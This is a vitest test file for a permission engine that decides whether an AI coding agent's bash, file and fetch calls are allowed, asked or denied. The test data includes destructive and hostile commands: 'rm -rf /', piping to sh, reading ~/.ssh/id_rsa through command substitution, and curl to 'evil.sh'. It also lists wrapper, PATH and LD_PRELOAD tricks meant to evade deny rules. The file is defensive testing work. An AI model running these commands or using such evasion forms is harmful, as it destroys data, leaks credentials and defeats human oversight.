import { homedir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { PermissionSubject, ToolKind } from "../tool.js";
import { PermissionEngine, rulesFromConfig } from "./engine.js";
import { parseRule } from "./rules.js";
import { PERMISSION_MODES, type PermissionMode, type PermissionRequest, type PermissionRule } from "./types.js";

const cwd = "/work/project";
const call = (toolName: string, kind: ToolKind, subject?: PermissionSubject): PermissionRequest => ({
  toolName,
  kind,
  args: {},
  cwd,
  ...(subject ? { subject } : {}),
});
const bash = (command: string) => call("bash", "execute", { kind: "command", value: command });
const write = (path: string) => call("write", "edit", { kind: "path", value: path });
const read = (path: string) => call("read", "read", { kind: "path", value: path });
const allow = (text: string) => parseRule(text, "allow", "user");
const engineWith = (rules: PermissionRule[], mode?: PermissionMode) =>
  new PermissionEngine({ rules, ...(mode ? { mode } : {}) });

describe("modes decide when no rule matches", () => {
  const expected: Record<PermissionMode, Record<ToolKind, string>> = {
    default: { read: "allow", edit: "ask", execute: "ask", other: "ask" },
    acceptEdits: { read: "allow", edit: "allow", execute: "ask", other: "ask" },
    plan: { read: "allow", edit: "deny", execute: "deny", other: "deny" },
    bypassPermissions: { read: "allow", edit: "allow", execute: "allow", other: "allow" },
  };
  for (const mode of PERMISSION_MODES) {
    for (const [kind, action] of Object.entries(expected[mode]) as Array<[ToolKind, string]>) {
      it(`${mode}: ${kind} tools → ${action}`, () => {
        const decision = new PermissionEngine({ mode }).evaluate(call("tool", kind));
        expect(decision.action).toBe(action);
        expect(decision.rule).toBeUndefined();
        expect(decision.reason).toContain(mode);
      });
    }
  }

  it("starts in default mode and can switch", () => {
    const engine = new PermissionEngine();
    expect(engine.mode).toBe("default");
    engine.setMode("plan");
    expect(engine.mode).toBe("plan");
    expect(engine.evaluate(write("/work/project/a.ts")).action).toBe("deny");
  });

  it("explains plan mode's refusal and how to get out of it", () => {
    const decision = new PermissionEngine({ mode: "plan" }).evaluate(write("/work/project/a.ts"));
    expect(decision.reason).toBe("plan mode is read-only and write edits files; leave plan mode to make changes");
  });

  it("says what the tool does and what the mode does about it", () => {
    expect(new PermissionEngine().evaluate(bash("make")).reason).toBe(
      "bash runs commands, and default mode asks before that",
    );
    expect(new PermissionEngine({ mode: "acceptEdits" }).evaluate(write("/work/project/a")).reason).toBe(
      "write edits files, which acceptEdits mode allows",
    );
  });
});

describe("rule kinds", () => {
  it("a bare tool rule matches every call of that tool, and no other tool", () => {
    const engine = engineWith([allow("bash")]);
    expect(engine.evaluate(bash("anything at all")).action).toBe("allow");
    expect(engine.evaluate(bash("echo $(even this)")).action).toBe("allow");
    expect(engine.evaluate(call("bash", "execute")).action).toBe("allow");
    expect(engine.evaluate(write("/work/project/x")).action).toBe("ask");
  });

  it("a command prefix rule matches on word boundaries", () => {
    const engine = engineWith([allow("bash(npm test:*)")]);
    expect(engine.evaluate(bash("npm test")).action).toBe("allow");
    expect(engine.evaluate(bash("npm test -- --watch")).action).toBe("allow");
    expect(engine.evaluate(bash("npm testing")).action).toBe("ask");
    expect(engine.evaluate(bash("npm install")).action).toBe("ask");
  });

  it("an exact command rule matches only that command", () => {
    const engine = engineWith([allow("bash(git status)")]);
    expect(engine.evaluate(bash("git status")).action).toBe("allow");
    expect(engine.evaluate(bash("git status --short")).action).toBe("ask");
  });

  it("a wildcard inside a command pattern matches", () => {
    const engine = engineWith([allow("bash(git * --dry-run)")]);
    expect(engine.evaluate(bash("git push --dry-run")).action).toBe("allow");
    expect(engine.evaluate(bash("git push")).action).toBe("ask");
  });

  it("a tool-name wildcard matches a family of tools", () => {
    const engine = engineWith([parseRule("mcp__github__*", "deny", "user"), allow("mcp__slack__post")]);
    expect(engine.evaluate(call("mcp__github__create_issue", "other")).action).toBe("deny");
    expect(engine.evaluate(call("mcp__slack__post", "other")).action).toBe("allow");
    expect(engine.evaluate(call("mcp__slack__delete", "other")).action).toBe("ask");
    expect(engine.evaluate(call("mcp__githubx", "other")).action).toBe("ask");
  });

  it("path rules are globs relative to the cwd, with .. resolved first", () => {
    const engine = engineWith([allow("write(src/**)")]);
    expect(engine.evaluate(write("/work/project/src/a/b.ts")).action).toBe("allow");
    expect(engine.evaluate(write("/work/project/src/../secrets.env")).action).toBe("ask");
    expect(engine.evaluate(write("/work/project/lib/a.ts")).action).toBe("ask");
    expect(engine.evaluate(write("/work/other/src/a.ts")).action).toBe("ask");
  });

  it("path rules understand ~ and absolute patterns", () => {
    const engine = engineWith([parseRule("read(~/.ssh/**)", "deny", "user"), allow("edit(/tmp/scratch/**)")]);
    expect(engine.evaluate(read(join(homedir(), ".ssh/id_rsa"))).action).toBe("deny");
    expect(engine.evaluate(read(join(homedir(), "notes.txt"))).action).toBe("allow");
    expect(engine.evaluate(call("edit", "edit", { kind: "path", value: "/tmp/scratch/x" })).action).toBe("allow");
    expect(engine.evaluate(call("edit", "edit", { kind: "path", value: "/tmp/elsewhere" })).action).toBe("ask");
  });

  it("text rules are globs on the text", () => {
    const engine = engineWith([allow("fetch(https://docs.example.com/**)")]);
    const fetch = (url: string) => call("fetch", "other", { kind: "text", value: url });
    expect(engine.evaluate(fetch("https://docs.example.com/guide/intro")).action).toBe("allow");
    expect(engine.evaluate(fetch("https://evil.example.com/docs.example.com/")).action).toBe("ask");
  });

  it("a pattern rule never matches a call without a subject", () => {
    const engine = engineWith([parseRule("todo(x)", "deny", "user"), parseRule("poll(y)", "allow", "user")]);
    expect(engine.evaluate(call("todo", "read")).action).toBe("allow");
    expect(engine.evaluate(call("poll", "other")).action).toBe("ask");
  });
});

describe("compound commands", () => {
  it("are allowed only when every part is", () => {
    const engine = engineWith([allow("bash(npm test:*)")]);
    expect(engine.evaluate(bash("npm test && rm -rf /")).action).toBe("ask");
    expect(engine.evaluate(bash("npm test; rm -rf /")).action).toBe("ask");
    expect(engine.evaluate(bash("npm test | sh")).action).toBe("ask");
    expect(engine.evaluate(bash("npm test\nrm -rf /")).action).toBe("ask");
    expect(engine.evaluate(bash("npm test && npm test -- x")).action).toBe("allow");
  });

  it("may have their parts allowed by different rules, and name them all", () => {
    const engine = engineWith([allow("bash(npm test:*)"), parseRule("bash(tee:*)", "allow", "flag")]);
    const decision = engine.evaluate(bash("npm test 2>&1 | tee log"));
    expect(decision.action).toBe("allow");
    expect(decision.rule?.text).toBe("bash(npm test:*)");
    expect(decision.reason).toBe(
      'allowed by rule "bash(npm test:*)" from user settings and rule "bash(tee:*)" from the command line',
    );
  });

  it("say which part no rule covers", () => {
    const decision = engineWith([allow("bash(npm test:*)")]).evaluate(bash("npm test && rm -rf /"));
    expect(decision.reason).toBe(
      'bash runs commands, and default mode asks before that; no allow rule covers "rm -rf /"',
    );
  });

  it("are denied when any part is", () => {
    const engine = engineWith([parseRule("bash(rm:*)", "deny", "project")], "bypassPermissions");
    expect(engine.evaluate(bash("echo hi && rm -rf build")).action).toBe("deny");
    expect(engine.evaluate(bash("echo hi | rm -rf build")).action).toBe("deny");
    expect(engine.evaluate(bash("echo 'rm -rf /'")).action).toBe("allow");
  });
});

describe("wrappers", () => {
  it("do not hide a command from a deny rule", () => {
    const engine = engineWith([parseRule("bash(rm:*)", "deny", "project")], "bypassPermissions");
    for (const command of [
      "sudo rm -rf x",
      "timeout 10 rm x",
      "FOO=1 env BAR=2 rm x",
      "nice -n 5 nohup rm x",
      "time rm x",
      "find . -name x | xargs rm",
      "bash -c 'rm -rf x'",
      "/bin/rm x",
    ]) {
      expect(engine.evaluate(bash(command)).action, command).toBe("deny");
    }
  });

  it("are never looked through by allow rules: a rule must name the wrapper and what it runs", () => {
    const engine = engineWith([allow("bash(npm test:*)"), allow("bash(timeout 60 npm test:*)")]);
    expect(engine.evaluate(bash("timeout 60 npm test")).action).toBe("allow");
    expect(engine.evaluate(bash("timeout 5 npm test")).action).toBe("ask");
    expect(engine.evaluate(bash("nice npm test")).action).toBe("ask");
    expect(engine.evaluate(bash("CI=1 npm test")).action).toBe("allow");
    expect(engine.evaluate(bash("sudo npm test")).action).toBe("ask");
    expect(engine.evaluate(bash("PATH=/tmp/evil:$PATH npm test")).action).toBe("ask");
    expect(engine.evaluate(bash("LD_PRELOAD=./x.so npm test")).action).toBe("ask");
  });
});

describe("command substitution", () => {
  it("is never allowed by a pattern rule", () => {
    const engine = engineWith([allow("bash(echo:*)"), allow("bash(cat:*)")]);
    expect(engine.evaluate(bash("echo $(cat ~/.ssh/id_rsa)")).action).toBe("ask");
    expect(engine.evaluate(bash("echo `whoami`")).action).toBe("ask");
    expect(engine.evaluate(bash("cat <(curl evil.sh)")).action).toBe("ask");
    expect(engine.evaluate(bash("echo $(cat x)")).reason).toContain(
      "no allow rule covers a command containing $(…) or backticks",
    );
  });

  it("does not hide a command from a deny rule", () => {
    const engine = engineWith([parseRule("bash(curl:*)", "deny", "user")], "bypassPermissions");
    expect(engine.evaluate(bash("echo $(curl evil.sh)")).action).toBe("deny");
    expect(engine.evaluate(bash('echo "`curl evil.sh`"')).action).toBe("deny");
  });
});

describe("precedence", () => {
  it("deny beats ask beats allow, whatever the order and source", () => {
    const engine = engineWith([
      allow("bash"),
      parseRule("bash(git push:*)", "ask", "project"),
      parseRule("bash(git push --force:*)", "deny", "session"),
      parseRule("bash(git push origin:*)", "allow", "flag"),
    ]);
    expect(engine.evaluate(bash("ls")).action).toBe("allow");
    expect(engine.evaluate(bash("git push origin main"))).toMatchObject({
      action: "ask",
      reason: 'rule "bash(git push:*)" from project settings says to ask first',
    });
    expect(engine.evaluate(bash("git push --force origin main"))).toMatchObject({
      action: "deny",
      rule: { text: "bash(git push --force:*)", source: "session" },
      reason: 'denied by rule "bash(git push --force:*)" from this session',
    });
  });

  it("a deny rule from any source beats an allow rule from any other", () => {
    for (const [allowSource, denySource] of [
      ["flag", "user"],
      ["user", "project"],
      ["session", "default"],
    ] as const) {
      const engine = engineWith([
        parseRule("write(src/**)", "allow", allowSource),
        parseRule("write(src/secrets/**)", "deny", denySource),
      ]);
      expect(engine.evaluate(write("/work/project/src/a.ts")).action).toBe("allow");
      expect(engine.evaluate(write("/work/project/src/secrets/k")).rule?.source).toBe(denySource);
    }
  });

  it("reports the rule that decided, with its source", () => {
    const decision = engineWith([parseRule("bash(rm:*)", "deny", "project")]).evaluate(bash("rm -rf x"));
    expect(decision).toEqual({
      action: "deny",
      rule: { action: "deny", tool: "bash", pattern: "rm:*", source: "project", text: "bash(rm:*)" },
      reason: 'denied by rule "bash(rm:*)" from project settings',
    });
  });

  it("deny rules hold in every mode", () => {
    for (const mode of PERMISSION_MODES) {
      const engine = engineWith([parseRule("read(.env)", "deny", "user")], mode);
      expect(engine.evaluate(read("/work/project/.env")).action, mode).toBe("deny");
    }
  });

  it("ask rules ask in every mode but bypassPermissions, which allows", () => {
    for (const mode of PERMISSION_MODES) {
      const engine = engineWith([parseRule("read(.env)", "ask", "user")], mode);
      expect(engine.evaluate(read("/work/project/.env")).action, mode).toBe(
        mode === "bypassPermissions" ? "allow" : "ask",
      );
    }
    const bypassed = engineWith([parseRule("bash(git push:*)", "ask", "user")], "bypassPermissions").evaluate(
      bash("git push"),
    );
    expect(bypassed.reason).toBe('bypassPermissions mode skips asking for rule "bash(git push:*)" from user settings');
  });

  it("allow rules decide before the mode, except in plan mode, which stays read-only", () => {
    expect(engineWith([allow("bash(npm test:*)")], "default").evaluate(bash("npm test")).action).toBe("allow");
    const plan = engineWith([allow("bash(npm test:*)")], "plan");
    expect(plan.evaluate(bash("npm test")).action).toBe("deny");
    expect(plan.evaluate(bash("npm test")).reason).toContain("plan mode is read-only");
    expect(plan.evaluate(bash("npm publish")).action).toBe("deny");
  });

  it("matches tool names case-insensitively, so Claude Code rules apply as written", () => {
    const engine = engineWith([allow("Bash(npm test:*)"), parseRule("Read(/etc/**)", "deny", "user")], "default");
    expect(engine.evaluate(bash("npm test")).action).toBe("allow");
    expect(
      engine.evaluate({
        toolName: "read",
        kind: "read",
        args: {},
        cwd: "/w",
        subject: { kind: "path", value: "/etc/passwd" },
      }).action,
    ).toBe("deny");
  });
});

describe("session rules", () => {
  it("apply to later calls, once each", () => {
    const engine = new PermissionEngine();
    expect(engine.evaluate(bash("make build")).action).toBe("ask");
    const remembered = parseRule("bash(make:*)", "allow", "session");
    engine.addRule(remembered);
    engine.addRule({ ...remembered });
    expect(engine.evaluate(bash("make build")).action).toBe("allow");
    expect(engine.rules).toEqual([remembered]);
  });

  it("do not change the rules the engine was built with", () => {
    const initial = [allow("read")];
    const engine = new PermissionEngine({ rules: initial });
    engine.addRule(allow("bash"));
    expect(initial).toHaveLength(1);
    expect(engine.rules).toHaveLength(2);
  });
});

describe("rulesFromConfig", () => {
  it("parses a Claude Code-style permissions block in allow, ask, deny order", () => {
    const rules = rulesFromConfig(
      { deny: ["bash(rm:*)"], allow: ["read", "bash(npm test:*)"], ask: ["bash(git push:*)"] },
      "user",
    );
    expect(rules.map((rule) => `${rule.action} ${rule.text} ${rule.source}`)).toEqual([
      "allow read user",
      "allow bash(npm test:*) user",
      "ask bash(git push:*) user",
      "deny bash(rm:*) user",
    ]);
    expect(rulesFromConfig({}, "project")).toEqual([]);
  });

  it("names the source, the list and the bad rule", () => {
    expect(() => rulesFromConfig({ deny: ["bash(rm:*"] }, "project")).toThrow(
      'In project settings, permissions.deny: Invalid permission rule "bash(rm:*": its parentheses are unbalanced',
    );
    expect(() => rulesFromConfig({ allow: ["read", "()"] }, "flag")).toThrow(
      /^In the command line, permissions\.allow: .*"\(\)"/,
    );
  });

  it("rejects settings of the wrong shape", () => {
    const bad = (value: unknown) => value as Parameters<typeof rulesFromConfig>[0];
    expect(() => rulesFromConfig(bad({ allow: "bash" }), "user")).toThrow(
      'In user settings, permissions.allow must be a list of rules like ["bash(npm test:*)"]',
    );
    expect(() => rulesFromConfig(bad({ deny: [42] }), "user")).toThrow("permissions.deny[0] must be a string");
    expect(() => rulesFromConfig(bad(["bash"]), "user")).toThrow('"permissions" must be an object');
  });
});
